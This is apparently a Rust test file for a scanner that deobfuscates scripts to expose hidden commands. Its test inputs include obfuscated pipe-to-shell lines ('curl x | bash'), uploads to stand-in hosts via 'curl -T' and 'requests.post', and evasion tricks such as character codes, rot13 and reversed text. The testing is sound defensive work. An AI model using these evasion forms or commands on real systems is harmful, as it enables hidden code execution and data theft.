use super::*;

fn plain(line: &str) -> String {
    let mut variables = Variables::default();
    let assigned = "HOST=files.stat-box.io\nP=https\nDEST=$P://$HOST/in\nSINK = \"https://in.stat-box.io/k\"";
    variables.add(0, assigned, &mut ScanBudget::for_one_skill());
    undone(&variables_replaced(line, &mut LineValues::new(&variables, (1, 0)), 0))
}

#[test]
fn quoting_within_words_is_removed() {
    assert_eq!(plain(r"c\url x | ba\sh"), "curl x | bash");
    assert_eq!(plain("cu''rl x | w\"\"get"), "curl x | wget");
    assert_eq!(plain("c'ur'l x"), "curl x");
    assert_eq!(plain("curl${IFS}x"), "curl x");
    assert_eq!(plain("cu^rl x"), "curl x");
}

#[test]
fn parts_of_texts_are_joined() {
    assert_eq!(plain(r#"x("cu" + "rl")"#), r#"x("curl")"#);
    assert_eq!(plain("x = ['cu', 'rl'].join('')"), "x = \"curl\"");
    assert_eq!(plain("x = ''.join(['cu', 'rl'])"), "x = \"curl\"");
    assert_eq!(plain("run(chr(115)+chr(104))"), "run(\"sh\")");
    assert_eq!(plain("eval(String.fromCharCode(99, 117))"), "eval(\"cu\")");
}

#[test]
fn lists_of_character_codes_are_read() {
    assert!(plain("T = [99,117,114,108,32,120,32,124,32,98,97,115,104]").contains("curl x | bash"));
    assert_eq!(
        plain("T = [99, 117, 200, 108, 32, 120, 32, 124, 32, 98, 97, 115]"),
        "T = [99, 117, 200, 108, 32, 120, 32, 124, 32, 98, 97, 115]"
    );
}

#[test]
fn variables_are_replaced_by_their_values() {
    assert_eq!(plain("curl -T x \"$DEST/y\""), "curl -T x \"https://files.stat-box.io/in/y\"");
    assert_eq!(plain("requests.post(SINK, data=d)"), "requests.post(\"https://in.stat-box.io/k\", data=d)");
    assert_eq!(plain("requests.post(settings.SINK, data=d)"), "requests.post(\"https://in.stat-box.io/k\", data=d)");
    assert_eq!(plain("curl $OTHER"), "curl $OTHER");
}

#[test]
fn turned_texts_are_read() {
    assert!(plain("codecs.decode('phey uggc://k', 'rot13')").contains("curl http://x"));
    assert!(plain("echo 'hsab | x lruc' | rev").contains("curl x | bash"));
}

#[test]
fn codes_are_decimal_or_hexadecimal() {
    assert_eq!(plain("run(chr(0x73)+chr(0X68))"), "run(\"sh\")");
    assert_eq!(plain("eval(String.fromCharCode(0x63, 117))"), "eval(\"cu\")");
    assert_eq!(plain("eval(String.fromCodePoint(0x63, 0x75))"), "eval(\"cu\")");
}

/// Returns the resolved lines of a script.
fn resolved_lines(script: &str) -> Vec<String> {
    let mut variables = Variables::default();
    let mut work = ScanBudget::for_one_skill();
    variables.add(0, script, &mut work);
    let lines = resolved((0, script), &Outline::of(script, true), &variables, &mut work);
    lines.into_iter().map(|(_, line)| line).collect()
}

#[test]
fn each_value_of_a_variable_is_tried() {
    let lines =
        resolved_lines("HOST=a.stat-box.io\nHOST=docs.example.com\ncurl -T x https://$HOST/\nHOST=b.example.com\n");
    for host in ["a.stat-box.io", "docs.example.com", "b.example.com"] {
        assert!(lines.contains(&format!("curl -T x https://{host}/")), "{host} in {lines:?}");
    }
}

#[test]
fn many_variables_hide_none() {
    let padding: String = (0..5000).map(|number| format!("v{number}=value\n")).collect();
    let lines = resolved_lines(&format!("{padding}C=curl\n$C http://203.0.113.9/x\n"));
    assert_eq!(lines.last().unwrap(), "curl http://203.0.113.9/x");
}

#[test]
fn a_line_does_not_grow_beyond_the_limit() {
    let mut variables = Variables::default();
    let assigned = "A=$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A\n".repeat(3);
    variables.add(0, &assigned, &mut ScanBudget::for_one_skill());
    assert!(
        variables_replaced(&"$A ".repeat(100), &mut LineValues::new(&variables, (0, 1000)), 0).len() <= LONGEST_LINE
    );
}

#[test]
fn long_values_of_short_lines_are_counted_as_work() {
    let values: String = (0..4).map(|number| format!("b=\"{}\"\n", number.to_string().repeat(200))).collect();
    let script = format!("a=\"{}\"\n{values}{}", "$b ".repeat(20), "$a\n".repeat(20_000));
    let mut work = ScanBudget::for_one_skill();
    let mut variables = Variables::default();
    variables.add(0, &script, &mut work);
    let lines = resolved((0, &script), &Outline::of(&script, true), &variables, &mut work);
    let stored: usize = lines.iter().map(|(_, line)| line.len()).sum();
    assert!(stored < 13 << 20 && work.is_used_up(), "{stored} bytes");
}
